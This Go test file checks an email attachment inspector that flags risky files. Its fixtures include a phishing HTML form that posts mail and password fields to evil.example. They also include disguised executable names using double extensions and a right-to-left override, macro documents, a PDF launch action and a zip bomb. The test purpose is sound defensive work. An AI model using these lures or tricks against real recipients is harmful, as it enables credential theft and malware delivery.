package attachment

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"bonafide/contact"
	"bonafide/evidence"
)

func kinds(t testing.TB) *Kinds {
	t.Helper()
	k, err := Load(os.DirFS("../../data"))
	if err != nil {
		t.Fatal(err)
	}
	return k
}

type zipped struct {
	name, content string
	encrypted     bool
}

func zipFile(t testing.TB, files ...zipped) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		h := &zip.FileHeader{Name: f.name, Method: zip.Deflate}
		if f.encrypted {
			h.Flags |= 1
		}
		out, err := w.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := out.Write([]byte(f.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	png  = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
	page = `<html><body><form action="https://evil.example/p"><input name=mail><input type=password></form></body></html>`
)

func exe() string {
	b := make([]byte, 256)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[60:], 128)
	copy(b[128:], "PE\x00\x00")
	return string(b)
}

func iso() string {
	b := make([]byte, 20*2048)
	pvd := b[16*2048:]
	pvd[0] = 1
	copy(pvd[1:], "CD001")
	binary.LittleEndian.PutUint32(pvd[156+2:], 18)
	binary.LittleEndian.PutUint32(pvd[156+10:], 2048)
	b[17*2048] = 255
	copy(b[17*2048+1:], "CD001")
	dir := b[18*2048:]
	for _, name := range []string{"\x00", "\x01", "RECHNUNG.EXE;1"} {
		n := 33 + len(name) + (len(name)+1)%2
		dir[0], dir[32] = byte(n), byte(len(name))
		copy(dir[33:], name)
		dir = dir[n:]
	}
	return string(b)
}

func ole(streams ...string) string {
	b := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504)
	for _, s := range streams {
		b += wide(s) + "\x00\x00"
	}
	return b
}

func TestInspectKinds(t *testing.T) {
	docx := []zipped{{name: "[Content_Types].xml"}, {name: "word/document.xml", content: "<w:p><w:r><w:t>Your invoice</w:t></w:r></w:p><w:p><w:t>is attached</w:t></w:p>"},
		{name: "word/_rels/document.xml.rels", content: `<Relationship Id="1" Type="x/hyperlink" Target="https://a.example/pay?a=1&amp;b=2" TargetMode="External"/>`}}
	tests := []struct {
		name, declared, data string
		actual               string
		traits               []string
		links                []string
		text                 string
	}{
		{"invoice.pdf", "application/pdf", "%PDF-1.4\n1 0 obj<</S/URI/URI(https://a.example/)>>endobj", typePDF, []string{"links"}, []string{"https://a.example/"}, ""},
		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0....", typeJPEG, nil, nil, ""},
		{"order_details.pdf.html", "text/html", page, typeHTML, []string{"double_extension", "form", "links", "password_field"}, []string{"https://evil.example/p"}, ""},
		{"invoice.pdf.exe", "application/pdf", exe(), typePE, []string{"double_extension", "executable", "type_mismatch"}, nil, ""},
		{"invoice.pdf      .exe", "", exe(), typePE, []string{"double_extension", "executable"}, nil, ""},
		{"invoice\u202Efdp.exe", "", exe(), typePE, []string{"double_extension", "executable", "reversed_name"}, nil, ""},
		{"invoice.pdf", "application/pdf", exe(), typePE, []string{"executable", "type_mismatch"}, nil, ""},
		{"invoice.pdf", "application/pdf", page, typeHTML, []string{"form", "links", "password_field", "type_mismatch"}, []string{"https://evil.example/p"}, ""},
		{"r.iso", "application/octet-stream", iso(), typeISO, []string{"autorun", "executable"}, nil, ""},
		{"a.lnk", "", "L\x00\x00\x00\x01\x14\x02\x00", typeLNK, []string{"autorun"}, nil, ""},
		{"a.url", "", "[InternetShortcut]\r\nURL=https://a.example/u\r\n", typeShortcut, []string{"autorun", "links"}, []string{"https://a.example/u"}, ""},
		{"a.js", "text/plain", "var a = new ActiveXObject('x')", typeScript, []string{"script"}, nil, ""},
		{"a.txt", "text/plain", "#!/bin/sh\nrm x", typeScript, []string{"script"}, nil, ""},
		{"a.hta", "", "<html><hta:application></html>", typeHTA, []string{"script"}, nil, ""},
		{"a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>location.href='https://a.example/s'</script></svg>`, typeSVG, []string{"links", "script"}, []string{"https://a.example/s"}, ""},
		{"logo.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`, typeSVG, nil, nil, ""},
		{"a.docx", "", string(zipFile(t, docx...)), typeWord, []string{"links"}, []string{"https://a.example/pay?a=1&b=2"}, "Your invoice\nis attached"},
		{"a.docm", "", string(zipFile(t, append(docx, zipped{name: "word/vbaProject.bin"})...)), typeWord, []string{"links", "macro"}, []string{"https://a.example/pay?a=1&b=2"}, "Your invoice\nis attached"},
		{"a.docx", "", string(zipFile(t, zipped{name: "[Content_Types].xml"}, zipped{name: "word/_rels/settings.xml.rels",
			content: `<Relationship Type="http://x/attachedTemplate" Target="https://a.example/t.dotm" TargetMode="External"/>`})), typeWord, []string{"external_template", "links"}, []string{"https://a.example/t.dotm"}, ""},
		{"a.doc", "", ole("WordDocument", "Macros", "_VBA_PROJECT"), "application/msword", []string{"macro"}, nil, ""},
		{"a.doc", "", ole("WordDocument"), "application/msword", nil, nil, ""},
		{"a.xlsx", "", ole("EncryptedPackage"), typeOLE, []string{"encrypted"}, nil, ""},
		{"a.msg", "", ole("__substg1.0_001A001E"), typeMSG, nil, nil, ""},
		{"a.zip", "", string(zipFile(t, zipped{name: "doc/Rechnung.pdf.js", content: "1"})), typeZip, []string{"double_extension", "script"}, nil, ""},
		{"a.zip", "", string(zipFile(t, zipped{name: "a.pdf", encrypted: true})), typeZip, []string{"encrypted"}, nil, ""},
		{"a.zip", "", string(zipFile(t, zipped{name: "b.zip"})), typeZip, []string{"nested_archive"}, nil, ""},
		{"a.zip", "", string(zipFile(t, zipped{name: "p/login.html", content: page})), typeZip, []string{"form", "links", "password_field"}, []string{"https://evil.example/p"}, ""},
		{"a.jar", "", string(zipFile(t, zipped{name: "META-INF/MANIFEST.MF"})), typeJar, []string{"executable"}, nil, ""},
		{"a.apk", "", string(zipFile(t, zipped{name: "AndroidManifest.xml"})), typeAPK, []string{"executable"}, nil, ""},
		{"photos.zip", "", string(zipFile(t, zipped{name: "a.jpg"}, zipped{name: "b.jpg"})), typeZip, nil, nil, ""},
		{"a.rtf", "", `{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}Gr\'fc\'dfe \u8364?\par{\field{\*\fldinst{HYPERLINK "https://a.example/r"}}{\fldrslt here}}}`, typeRTF, []string{"links"}, []string{"https://a.example/r"}, "Grüße €\nhere"},
		{"a.rtf", "", `{\rtf1{\object\objocx{\*\objdata 0105}}x}`, typeRTF, []string{"object"}, nil, "x"},
		{"a.ics", "text/calendar", "BEGIN:VCALENDAR\r\nSUMMARY:Pay\\, now\r\nDESCRIPTION:Call +1 202 555 0100 or\r\n  visit https://a.example/\r\nEND:VCALENDAR", typeCalendar, nil, nil, "Pay, now\nCall +1 202 555 0100 or visit https://a.example/"},
		{"a.vcf", "text/x-vcard", "BEGIN:VCARD\nFN:Shop Support\nTEL;TYPE=cell:+1 202 555 0100\nEND:VCARD", typeCard, nil, nil, "Shop Support\n+1 202 555 0100"},
		{"note.txt", "text/plain", "Gr\xfc\xdfe", typeText, nil, nil, "Grüße"},
		{"a.gz", "", "\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x00a.exe\x00", typeGzip, []string{"executable"}, nil, ""},
		{"a.one", "", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", typeOneNote, []string{"autorun"}, nil, ""},
		{"winmail.dat", "application/ms-tnef", "\x78\x9f\x3e\x22", typeTNEF, nil, nil, ""},
		{"empty.bin.pdf", "", "", "", nil, nil, ""},
		{"C:\\Users\\x\\a.pdf", "", "%PDF-", typePDF, nil, nil, ""},
	}
	k := kinds(t)
	for _, test := range tests {
		a, x := Inspect(test.name, test.declared, []byte(test.data), Options{Kinds: k})
		slices.Sort(a.Traits)
		if a.Actual != test.actual || !slices.Equal(a.Traits, test.traits) {
			t.Errorf("%s: got %s %q, want %s %q", test.name, a.Actual, a.Traits, test.actual, test.traits)
		}
		var links []string
		for _, l := range x.Links {
			links = append(links, l.Raw)
		}
		if !slices.Equal(links, test.links) {
			t.Errorf("%s: links %q, want %q", test.name, links, test.links)
		}
		text := ""
		for _, p := range x.Texts {
			text += p.Text
		}
		if text != test.text {
			t.Errorf("%s: text %q, want %q", test.name, text, test.text)
		}
	}
}

func TestInspectLists(t *testing.T) {
	rar5 := "Rar!\x1a\x07\x01\x00" + "\x00\x00\x00\x00\x05\x01\x00\x00\x00\x00" + "\x00\x00\x00\x00\x0e\x02\x00\x00\x00\x00\x00\x00\x06a!.exe"
	rar4head := make([]byte, 32+5)
	rar4head[2] = 0x74
	binary.LittleEndian.PutUint16(rar4head[3:], 4)
	binary.LittleEndian.PutUint16(rar4head[5:], uint16(len(rar4head)))
	binary.LittleEndian.PutUint16(rar4head[26:], 5)
	copy(rar4head[32:], "b.vbs")
	tarball := make([]byte, 1024)
	copy(tarball, "c.bat")
	copy(tarball[124:], "00000000000")
	copy(tarball[257:], "ustar")
	for _, test := range []struct {
		data, inner string
		trait       string
	}{
		{rar5, "a!.exe", "executable"}, {"Rar!\x1a\x07\x00" + string(rar4head), "b.vbs", "script"}, {"Rar!\x1a\x07\x00" + string(rar4head), "b.vbs", "encrypted"},
		{string(tarball), "c.bat", "script"}, {iso(), "RECHNUNG.EXE", "executable"},
	} {
		a, _ := Inspect("x", "", []byte(test.data), Options{Kinds: kinds(t)})
		if !slices.Equal(a.Inner, []string{test.inner}) || !slices.Contains(a.Traits, test.trait) {
			t.Errorf("%s: listed %q, traits %q; want %q and %s", a.Actual, a.Inner, a.Traits, test.inner, test.trait)
		}
	}
}

func TestZipBombIsOnlyListed(t *testing.T) {
	bomb := zipFile(t, zipped{name: "a.html", content: strings.Repeat("\x00", 300<<20)})
	start := time.Now()
	a, x := Inspect("bomb.zip", "", bomb, Options{Kinds: kinds(t)})
	if took := time.Since(start); took > time.Minute {
		t.Errorf("a bomb of %d bytes took %v", len(bomb), took)
	}
	if !slices.Contains(a.Traits, "bomb") || !slices.Equal(a.Inner, []string{"a.html"}) || len(x.Texts) != 0 {
		t.Errorf("traits %q, inner %q, %d texts; want bomb, the name and no text", a.Traits, a.Inner, len(x.Texts))
	}
	if len(x.Problems) == 0 || x.Problems[0].Code != "truncated" {
		t.Errorf("problems %v, want truncated", x.Problems)
	}
}

func TestManyEntriesAreBounded(t *testing.T) {
	var files []zipped
	for i := range 3000 {
		files = append(files, zipped{name: fmt.Sprintf("f%d.txt", i)})
	}
	a, x := Inspect("many.zip", "", zipFile(t, files...), Options{MaxNames: 50})
	if len(a.Inner) != 50 || len(x.Problems) == 0 {
		t.Errorf("%d names listed, problems %v; want 50 and a problem", len(a.Inner), x.Problems)
	}
	broken := zipFile(t, zipped{name: "a.exe"}, zipped{name: "b.txt"})
	broken = broken[:bytes.LastIndex(broken, []byte("PK\x01\x02"))-40]
	if a, _ := Inspect("cut.zip", "", broken, Options{Kinds: kinds(t)}); !slices.Contains(a.Traits, "executable") {
		t.Errorf("an archive without its directory lists %q", a.Inner)
	}
}

func TestDataURI(t *testing.T) {
	for in, want := range map[string]string{
		"data:text/plain;base64," + base64.StdEncoding.EncodeToString([]byte("hello")): "hello",
		"data:,a%20b":      "a b",
		"DATA:;base64,aGk": "hi",
	} {
		if got, ok := DataURI(in); string(got) != want || !ok {
			t.Errorf("DataURI(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "https://a.example/", "data:x", "data:;base64,****"} {
		if got, ok := DataURI(in); ok {
			t.Errorf("DataURI(%q) = %q, want none", in, got)
		}
	}
}

func TestFindings(t *testing.T) {
	k := kinds(t)
	for _, test := range []struct{ name, data, want string }{
		{"invoice.pdf", "%PDF-1.4", "attachment_ordinary"},
		{"photo.png", png, "attachment_ordinary"},
		{"a.pdf.html", page, "attachment_risky attachment_form attachment_double_extension"},
		{"a.exe", exe(), "attachment_risky attachment_program"},
		{"a.iso", iso(), "attachment_risky attachment_program attachment_autorun"},
		{"a.zip", string(zipFile(t, zipped{name: "x", encrypted: true})), "attachment_risky attachment_encrypted"},
		{"a.xlsx", ole("EncryptedPackage"), "attachment_unusual attachment_encrypted"},
		{"a.doc", ole("WordDocument", "VBA"), "attachment_risky attachment_macro"},
		{"a.html", "<html><p>Hello</p></html>", "attachment_unusual attachment_page"},
		{"a.zip", string(zipFile(t, zipped{name: "a.jpg"})), "attachment_ordinary"},
		{"form.pdf", "%PDF-1.4\n1 0 obj<</AcroForm 2 0 R>>endobj", "attachment_ordinary"},
		{"a.pdf", "%PDF-1.4\n1 0 obj<</S/JavaScript/JS(x)>>endobj", "attachment_unusual attachment_object"},
		{"a.pdf", "%PDF-1.4\n1 0 obj<</S/#4caunch/F(x)>>endobj", "attachment_risky attachment_script"},
	} {
		a, _ := Inspect(test.name, "", []byte(test.data), Options{Kinds: k})
		var got []string
		for _, f := range Findings(&contact.Contact{Attachments: []contact.Attachment{a}}) {
			got = append(got, string(f.Code))
			if f.Where.Part != "attachment:1" || f.Args["name"] != test.name {
				t.Errorf("%s: %s stands at %q with %q", test.name, f.Code, f.Where.Part, f.Args)
			}
		}
		if strings.Join(got, " ") != test.want {
			t.Errorf("%s: findings %q, want %q", test.name, got, test.want)
		}
	}
}

// Every code that a room can return has a weight and sentences.
func TestCodesHaveWeights(t *testing.T) {
	table, err := evidence.LoadTable(os.DirFS("../../data"))
	if err != nil {
		t.Fatal(err)
	}
	codes := []evidence.Code{"attachment_risky", "attachment_unusual", "attachment_ordinary", "attachment_page"}
	for _, r := range append(slices.Clone(risky), unusual...) {
		codes = append(codes, r.code)
	}
	for _, c := range codes {
		if _, ok := table.Weight(c); !ok {
			t.Errorf("code %s is not in data/evidence", c)
		}
	}
}

func TestShownName(t *testing.T) {
	for in, want := range map[string]string{
		"a.pdf":                          "a.pdf",
		"inv\u202Efdp.exe":               "inv�fdp.exe",
		strings.Repeat("x", 200) + ".js": strings.Repeat("x", 48) + "…" + strings.Repeat("x", 28) + ".js",
	} {
		if got := shownName(in); got != want {
			t.Errorf("shownName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLoadRefusesBrokenTables(t *testing.T) {
	if _, err := Load(os.DirFS("testdata")); err == nil {
		t.Error("a missing table loaded")
	}
	k := kinds(t)
	if k.id("exe") != "program" || k.id("pdf") != "document" || k.id("nothing") != "" {
		t.Errorf("exe is %q, pdf is %q", k.id("exe"), k.id("pdf"))
	}
	var none *Kinds
	if none.id("exe") != "" || none.traits("exe") != nil || none.family("pdf") == "" {
		t.Error("without a table only what is fixed may be known")
	}
}

func FuzzInspect(f *testing.F) {
	k := kinds(f)
	f.Add("a.zip", zipFile(f, zipped{name: "a.html", content: page}, zipped{name: "word/document.xml", content: "<w:t>x"}))
	f.Add("a.iso", []byte(iso())[:0])
	f.Add("a.pdf", file(f, "locked-rc4.pdf"))
	f.Add("a.pdf", simplePDF())
	f.Add("a.rtf", []byte(`{\rtf1\ansicpg932{\field{\*\fldinst HYPERLINK "x"}}\u-3913?\'82\'a0}`))
	f.Add("a.rar", []byte("Rar!\x1a\x07\x01\x00\x00\x00\x00\x00\x05\x01\x00\x00\x00\x00"))
	f.Add("a.rar", []byte("Rar!\x1a\x07\x00\x00\x00\x74\x00\x80\x20\x00"))
	f.Add("a.tgz", []byte("\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x00a.exe\x00"))
	f.Add("a.doc", []byte(ole("WordDocument", "http://a.example/")))
	f.Add("a.ics", []byte("BEGIN:VCALENDAR\nSUMMARY:x"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		a, x := Inspect(name, "application/octet-stream", data, Options{Kinds: k, MaxInflate: 1 << 20, Passwords: []string{"123"}})
		if !utf8.ValidString(a.Name) || len(a.Inner) > 200 || len(a.Traits) > maxTraits {
			t.Errorf("name %q, %d inner, %d traits", a.Name, len(a.Inner), len(a.Traits))
		}
		for _, p := range x.Texts {
			if !utf8.ValidString(p.Text) {
				t.Errorf("text of %s is no valid UTF-8", p.Name)
			}
		}
		for _, l := range x.Links {
			if strings.TrimSpace(l.Raw) == "" {
				t.Error("an empty link")
			}
		}
		Findings(&contact.Contact{Attachments: []contact.Attachment{a}})
	})
}
